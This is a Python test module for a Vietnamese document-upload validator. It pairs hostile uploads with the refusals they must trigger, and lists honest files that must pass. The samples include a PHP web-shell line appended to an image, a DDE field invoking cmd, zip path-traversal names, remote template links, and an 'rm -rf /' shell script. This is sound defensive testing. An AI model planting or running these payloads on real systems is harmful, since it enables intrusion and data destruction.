"""The corpus: hostile uploads with the refusal each must meet, honest ones that must pass (handbook trust.md B2, B5 §2)."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

import xlsxwriter

from lienthong.office.files import errors
from lienthong.office.files.testing import packages, pdfs, pictures

PROGRAM = b"MZ\x90\x00" + bytes(400)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass(frozen=True)
class Hostile:
    """A hostile upload: `number` in the handbook's list (0: not in it), and the refusal it meets."""

    number: int
    name: str
    make: Callable[[], bytes]
    refused: type[errors.FileRefused]
    says: str = ""

    @property
    def label(self) -> str:
        """Return what a test calls it."""
        return f"{self.number}-{self.name}-{self.refused.__name__}"


def sheet() -> bytes:
    """Return a sheet with a chart, a comment and a web link."""
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        page = book.add_worksheet("Tháng 3")
        page.write_column(0, 0, [3, 1, 2])
        page.write_url(0, 1, "https://quangninh.gov.vn")
        page.write_comment(0, 2, "Đã kiểm tra")
        chart = book.add_chart({"type": "column"})
        chart.add_series({"values": "='Tháng 3'!$A$1:$A$3"})
        page.insert_chart("D2", chart)
    return out.getvalue()


def zip_of(name: str) -> Callable[[], bytes]:
    """Return the maker of an archive whose one entry has that name."""
    return lambda: _one_entry(name)


def _one_entry(name: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        entry = zipfile.ZipInfo("x")
        entry.filename = entry.orig_filename = name
        archive.writestr(entry, b"x")
    return out.getvalue()


HOSTILE = (
    Hostile(21, "mở là chạy.pdf", pdfs.javascript, errors.PdfActive, "JavaScript"),
    Hostile(22, "lệnh giấu.pdf", pdfs.launch_in_object_stream, errors.PdfActive, "lệnh mở chương trình"),
    Hostile(23, "kèm chương trình.pdf", pdfs.embedded_program, errors.PdfActive, "tệp đính kèm"),
    Hostile(23, "kẹp giấy.pdf", pdfs.file_annotation, errors.PdfActive, "tệp đính kèm"),
    Hostile(0, "biểu mẫu gửi đi.pdf", pdfs.sends_form, errors.PdfActive, "tự gửi dữ liệu"),
    Hostile(0, "biểu mẫu XFA.pdf", pdfs.xfa_form, errors.PdfActive, "XFA"),
    Hostile(24, "mật khẩu.pdf", pdfs.encrypted, errors.PdfEncrypted),
    Hostile(24, "khóa quyền.pdf", lambda: pdfs.encrypted(user=""), errors.PdfEncrypted),
    Hostile(25, "vừa pdf vừa zip.pdf", lambda: pdfs.good() + packages.zipped({"a.txt": "a"}), errors.HiddenData),
    Hostile(25, "zip có ghi chú.pdf", lambda: _commented(pdfs.good()), errors.HiddenData),
    Hostile(0, "đuôi dài.pdf", lambda: pdfs.good() + b"A" * 5_000, errors.HiddenData),
    Hostile(26, "trang web.pdf", lambda: b"<html><script>alert(1)</script>", errors.NotWhatItSays, "trang web"),
    Hostile(27, "web trước pdf.pdf", lambda: b"<html>" + b"a" * 900 + pdfs.good(), errors.NotWhatItSays, "trang web"),
    Hostile(28, "cắt cụt.pdf", lambda: pdfs.good()[:-40], errors.PdfBroken, "cắt cụt"),
    Hostile(28, "ruột hỏng.pdf", lambda: b"%PDF-1.7\nstartxref\n9\n%%EOF\n", errors.PdfBroken, "không đọc được"),
    Hostile(28, "thiếu bảng.pdf", lambda: b"%PDF-1.7\n%%EOF\n", errors.PdfBroken, "thiếu bảng"),
    Hostile(29, "lặp vòng.pdf", pdfs.page_loop, errors.PdfBroken, "không đọc được"),
    Hostile(29, "triệu trang.pdf", pdfs.page_bomb, errors.PdfBroken),
    Hostile(29, "trang lặp.pdf", pdfs.same_page_twice, errors.PdfBroken, "phải sửa mới đọc được"),
    Hostile(29, "nhiều trang.pdf", lambda: pdfs.many_pages(3_001), errors.PdfBroken, "quá 3000 trang"),
    Hostile(29, "rất nhiều trang.pdf", lambda: pdfs.many_pages(6_001), errors.PdfBroken, "quá 3000 trang"),
    Hostile(0, "không trang.pdf", lambda: pdfs.many_pages(0), errors.PdfBroken, "không có trang"),
    Hostile(0, "trang sâu.pdf", pdfs.deep_pages, errors.PdfBroken, "cây trang không hợp lệ"),
    Hostile(0, "phim.pdf", pdfs.rich_media, errors.PdfActive, "nội dung đa phương tiện"),
    Hostile(0, "lồng sâu.pdf", pdfs.deep_array, errors.PdfBroken, "quá phức tạp"),
    Hostile(30, "ký rồi sửa.pdf", pdfs.signed_then_changed, errors.PdfSignatureBroken, "sửa sau khi ký"),
    Hostile(30, "ký rồi thêm.pdf", pdfs.signed_then_added, errors.PdfSignatureBroken, "sửa sau khi ký"),
    Hostile(31, "ký một phần.pdf", lambda: pdfs.signed(whole=False), errors.PdfSignatureBroken, "bỏ ra ngoài"),
    Hostile(31, "năm mươi mốt chữ ký.pdf", pdfs.signed_often, errors.PdfSignatureBroken, "quá 50 chữ ký"),
    Hostile(32, "chương trình.pdf", lambda: PROGRAM, errors.NotWhatItSays, "chương trình Windows"),
    Hostile(33, "ảnh động.gif", lambda: b"GIF89a=1;alert(1)//", errors.KindNotAccepted, "Hãy gửi tệp PDF"),
    Hostile(34, "vẽ.svg", lambda: SVG, errors.KindNotAccepted),
    Hostile(35, "vẽ.png", lambda: SVG, errors.NotWhatItSays),
    Hostile(36, "khổng lồ.png", pictures.huge_header, errors.PictureTooLarge, "60000 × 60000"),
    Hostile(0, "cắt cụt.png", lambda: pictures.drawn(size=(900, 900))[:600], errors.PictureBroken),
    Hostile(0, "động.png", pictures.animated, errors.PictureTooLarge, "ảnh động"),
    Hostile(39, "fax.tiff", pictures.many_pages, errors.PictureTooLarge, "5000 trang"),
    Hostile(40, "macro.docx", lambda: packages.docx({"word/vbaProject.bin": OLE}), errors.OfficeFileActive, "macro"),
    Hostile(
        40,
        "loại macro.docx",
        lambda: packages.docx(types='<Default Extension="y" ContentType="application/vnd.ms-word.document.macroEnabled"/>'),
        errors.OfficeFileActive,
        "macro",
    ),
    Hostile(
        41,
        "mẫu từ xa.docx",
        lambda: packages.docx_with_relationship("attachedTemplate", "http://203.0.113.5/a.dotm"),
        errors.OfficeFileActive,
        "từ bên ngoài",
    ),
    Hostile(
        41,
        "liên kết tệp.docx",
        lambda: packages.docx_with_relationship("hyperlink", "file://203.0.113.5/a"),
        errors.OfficeFileActive,
    ),
    Hostile(42, "đọc trộm.docx", packages.docx_with_entity, errors.OfficeFileActive, "DTD"),
    Hostile(42, "cười.docx", packages.docx_with_laughs, errors.OfficeFileActive, "DTD"),
    Hostile(43, "đời cũ.docx", lambda: OLE, errors.NotWhatItSays, "Office đời cũ"),
    Hostile(
        0,
        "trường DDE.docx",
        lambda: packages.docx(body="<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd</w:instrText></w:r>"),
        errors.OfficeFileActive,
        "trường tự lấy",
    ),
    Hostile(
        0,
        "trường gọn.docx",
        lambda: packages.docx(body='<w:fldSimple w:instr=" INCLUDETEXT c:\\a.txt "/>'),
        errors.OfficeFileActive,
        "trường tự lấy",
    ),
    Hostile(
        0,
        "nhúng.docx",
        lambda: packages.docx({"word/embeddings/oleObject1.bin": OLE}),
        errors.OfficeFileActive,
        "đối tượng nhúng",
    ),
    Hostile(0, "giấu exe.docx", lambda: packages.docx({"word/media/a.png": PROGRAM}), errors.ArchiveUnsafe, "giấu bên trong"),
    Hostile(0, "xml hỏng.docx", lambda: packages.docx({"word/document.xml": "<a><b></a>"}), errors.ArchiveUnsafe, "XML"),
    Hostile(
        0, "xml sâu.docx", lambda: packages.docx({"word/x.xml": "<a>" * 300 + "</a>" * 300}), errors.ArchiveUnsafe, "quá sâu"
    ),
    Hostile(0, "chỉ là zip.docx", lambda: packages.zipped({"a.txt": "a"}), errors.NotWhatItSays, "không có các phần"),
    Hostile(0, "macro.odt", lambda: packages.odt(extra={"Basic/Standard/x.xml": "<x/>"}), errors.OfficeFileActive, "macro"),
    Hostile(0, "sự kiện.odt", lambda: packages.odt("<script:event-listener/>"), errors.OfficeFileActive, "macro"),
    Hostile(
        0,
        "ảnh từ xa.odt",
        lambda: packages.odt('<draw:image xlink:href="http://203.0.113.5/a.png"/>'),
        errors.OfficeFileActive,
        "từ bên ngoài",
    ),
    Hostile(0, "bảng tính.odt", lambda: packages.odt(mimetype="application/x-other"), errors.NotWhatItSays, "OpenDocument"),
    Hostile(44, "bom.docx", packages.docx_bomb, errors.ArchiveUnsafe, "bom nén"),
    Hostile(45, "bom lồng.zip", packages.nested_bomb, errors.ArchiveUnsafe, "lồng trong"),
    Hostile(46, "chồng.zip", packages.overlapping, errors.ArchiveUnsafe, "chồng lên nhau"),
    Hostile(47, "nói ít.zip", lambda: packages.lying_size(5), errors.ArchiveUnsafe, "không đúng"),
    Hostile(47, "nói nhiều.zip", lambda: packages.lying_size(600_000), errors.ArchiveUnsafe, "không đúng"),
    Hostile(48, "trèo.zip", zip_of("../../etc/a.txt"), errors.ArchiveUnsafe, "đường dẫn"),
    Hostile(48, "trèo ngược.zip", zip_of("..\\..\\a.txt"), errors.ArchiveUnsafe, "đường dẫn"),
    Hostile(48, "gốc.zip", zip_of("/etc/a.txt"), errors.ArchiveUnsafe, "đường dẫn"),
    Hostile(48, "ổ đĩa.zip", zip_of("C:a.txt"), errors.ArchiveUnsafe, "đường dẫn"),
    Hostile(49, "liên kết.zip", packages.symlink, errors.ArchiveUnsafe, "symlink"),
    Hostile(50, "rỗng ruột.zip", packages.many_empty, errors.ArchiveUnsafe, "chứa hơn 2000 tệp"),
    Hostile(51, "trùng tên.zip", packages.twice_named, errors.ArchiveUnsafe, "trùng tên"),
    Hostile(0, "hai tên.zip", packages.two_local_names, errors.ArchiveUnsafe, "ghi hai nơi"),
    Hostile(0, "khóa.zip", packages.with_password, errors.ArchiveUnsafe, "mật khẩu"),
    Hostile(0, "không gì.zip", lambda: packages.zipped({}), errors.ArchiveUnsafe, "không có tệp nào"),
    Hostile(0, "mục lục sai.zip", packages.broken_directory, errors.ArchiveUnsafe, "tệp nén hỏng"),
    Hostile(0, "tệp hai sai.zip", packages.second_header_broken, errors.ArchiveUnsafe, "tệp nén hỏng"),
    Hostile(0, "hai đĩa.zip", packages.of_two_disks, errors.ArchiveUnsafe, "nhiều phần"),
    Hostile(0, "bzip2.zip", packages.of_a_rare_packing, errors.ArchiveUnsafe, "cách nén lạ"),
    Hostile(0, "đầu.zip", packages.bytes_before_the_first_entry, errors.HiddenData, "trước tệp nén"),
    Hostile(47, "dài quá tệp.zip", packages.packed_size_beyond_the_end, errors.ArchiveUnsafe, "bị cắt cụt"),
    Hostile(47, "dài hơn ruột.zip", packages.packed_size_too_large, errors.ArchiveUnsafe, "cỡ ghi trong tệp nén"),
    Hostile(0, "đuôi.zip", lambda: packages.zipped({"a.txt": "a"}) + b"<?php ?>", errors.HiddenData),
    Hostile(0, "chương trình.zip", lambda: packages.zipped({"a.exe": PROGRAM}), errors.KindNotAccepted),
    Hostile(0, "pdf xấu.zip", lambda: packages.zipped({"hồ sơ/a.pdf": pdfs.javascript()}), errors.PdfActive),
    Hostile(52, "rỗng.pdf", lambda: b"", errors.EmptyFile),
    Hostile(54, ".htaccess", lambda: b"Options +ExecCGI", errors.KindNotAccepted),
    Hostile(55, "eicar.com", lambda: EICAR, errors.KindNotAccepted),
    Hostile(0, "mã lạ.txt", lambda: "Hoành Mô".encode("utf-16"), errors.TextUnreadable, "UTF-8"),
    Hostile(0, "điều khiển.txt", lambda: b"a\x1b[2Jb", errors.TextUnreadable),
    Hostile(0, "kịch bản.txt", lambda: b"#!/bin/sh\nrm -rf /\n", errors.NotWhatItSays, "tập lệnh"),
)

GOOD: dict[str, Callable[[], bytes]] = {
    "đơn.pdf": pdfs.good,
    "ba nghìn trang.pdf": lambda: pdfs.many_pages(3_000),
    "đã ký.pdf": pdfs.signed,
    "ký có chứng cứ.pdf": pdfs.signed_with_proof,
    "thư.docx": packages.docx,
    "bảng.xlsx": sheet,
    "thư.odt": lambda: packages.odt('<text:a xlink:href="https://quangninh.gov.vn">trang</text:a>'),
    "hồ sơ.zip": lambda: packages.zipped(
        {"giấy tờ/đơn.pdf": pdfs.good(), "ảnh/cmnd.jpg": pictures.photo(), "thư.docx": packages.docx()}
    ),
    "không nén.zip": packages.stored,
    "ghi chú.txt": lambda: "\ufeffHồ sơ nộp tại xã Hoành Mô\r\n".encode(),
}
"""Kept byte by byte."""

REDRAWN: dict[str, Callable[[], bytes]] = {
    "ảnh.png": pictures.drawn,
    "đuôi php.png": lambda: pictures.drawn() + b"<?php system($_GET['c']); ?>",
    "ảnh.jpg": pictures.photo,
    "ảnh.jpeg": lambda: pictures.drawn("JPEG", "CMYK"),
    "trong suốt.png": lambda: pictures.drawn("PNG", "LA"),
    "bảng màu.png": lambda: pictures.drawn("PNG", "P"),
    "fax.tif": pictures.fax,
    "ảnh.webp": lambda: pictures.drawn("WEBP"),
}
"""Drawn anew."""


def _commented(pdf: bytes) -> bytes:
    out = io.BytesIO(pdf)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("a.txt", "a")
        archive.comment = b"\nstartxref\n9\n%%EOF\n"
    return out.getvalue()
